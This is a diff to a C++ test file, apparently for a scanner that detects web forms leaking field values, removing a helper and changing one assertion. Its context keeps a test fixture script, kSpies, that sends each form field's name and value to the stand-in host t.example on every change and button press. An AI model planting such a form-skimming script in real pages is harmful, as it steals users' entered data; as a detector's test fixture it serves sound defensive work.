@@ -10,14 +10,6 @@ using namespace formleak::test;
 
 namespace {
 
-// How often each of these fields' values is seen leaving for t.example.
-std::map<std::string, std::size_t> seen_leaving(const Json& report) {
-    std::map<std::string, std::size_t> out;
-    for (const Json& leak : report["leaks"].items())
-        if (leak["basis"].as_text() == "observed") ++out[leak["field_name"].as_text()];
-    return out;
-}
-
 // On each change the field's own value goes out, and at each press of a button all of the form's.
 const char* kSpies =
     "<script>addEventListener('change',e=>{new Image().src='https://t.example/c?'+e.target.name+'='+"
@@ -70,7 +62,7 @@ TEST_CASE("choices: a field that another choice shows is filled, and its form se
         site.page("/", page_of(std::string(page.html) + kSpies));
         const Scanned visit = verify(site);
         CHECK(is_complete(visit));
-        CHECK(seen_leaving(visit.report)["late"] > 0);
+        CHECK(seen_leaving(visit.report).contains("late"));
         const auto sent = buttons_of(visit);
         CHECK(std::count(sent.begin(), sent.end(), "Skicka: clicked") >= 2);
     }
